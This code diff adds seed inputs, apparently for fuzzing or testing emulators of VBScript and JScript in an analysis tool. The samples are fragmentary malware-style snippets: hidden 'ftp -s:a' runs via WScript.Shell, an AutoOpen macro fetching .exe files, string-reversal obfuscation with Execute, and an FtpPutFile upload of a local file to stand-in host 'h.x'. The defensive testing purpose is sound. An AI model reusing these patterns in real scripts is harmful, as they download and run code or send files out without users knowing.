@@ -37,3 +37,26 @@ parts = [(host / path).read_bytes() for path in
 seed("pipeline", "host", b"\0\n".join(parts))
 for number, path in enumerate(SCRIPTS + BATCHES):
     seed("pipeline", f"{number}", (host / path).read_bytes())
+
+# Programs that write and start what the emulations of BASIC and JScript follow; the first byte chooses the file's name.
+BASIC = [
+    b'Set t = CreateObject("Scripting.FileSystemObject").CreateTextFile("a", True)\nt.WriteLine "open h.x"\n'
+    b't.Close\nCreateObject("WScript.Shell").Run "ftp -s:a", 0, True\n',
+    b'Sub AutoOpen()\n  Dim n As Integer, i\n  n = FreeFile\n  Open Environ("TEMP") & "\\a" For Output As #n\n'
+    b'  For i = 0 To 2\n    Print #n, "get "; i; ".exe"\n  Next\n  Close #n\n  If x Then Shell "ftp -s:a" Else Exit Sub\nEnd Sub\n',
+    b'Function D(s)\nFor i = 1 To Len(s)\nD = Chr(Asc(Mid(s, i, 1))) & D\nNext\nEnd Function\nExecute D("1 = x")\n'
+    b'Select Case D("a")\nCase "a": Shell "ftp -n"\nCase Else\nDo While y\nLoop\nEnd Select\n',
+    b'c = InternetConnect(h, "h.x", 21, "bob", "pw", 1, 0, 0)\nFtpPutFile c, "C:\\a", "b", 2, 0\n',
+]
+JSCRIPT = [
+    b'var t = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile("a", true);\nt.WriteLine("open h.x");\n'
+    b't.Close();\nnew ActiveXObject("WScript.Shell").Run("ftp -s:a", 0);\n',
+    b'function d(s) { var r = ""; for (var i = 0; i < s.length; i += 2) r += String.fromCharCode(parseInt(s.substr(i, 2), 16));'
+    b' return r; }\ntry { eval(d("78") + "=1"); } catch (e) { } switch (x) { case 1: break; default: y = [1, 2].reverse().join("") }\n',
+    b'<html><script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "cmd /c echo bye>a"\n</script>\n'
+    b'<script>new ActiveXObject("WScript.Shell").Run("ftp -s:a".replace(/x/g, ""));</script></html>\n',
+]
+for target, programs in (("basic", BASIC), ("jscript", JSCRIPT)):
+    for number, program in enumerate(programs):
+        for name in range(3):
+            seed(target, f"{number}-{name}", bytes([name]) + program)
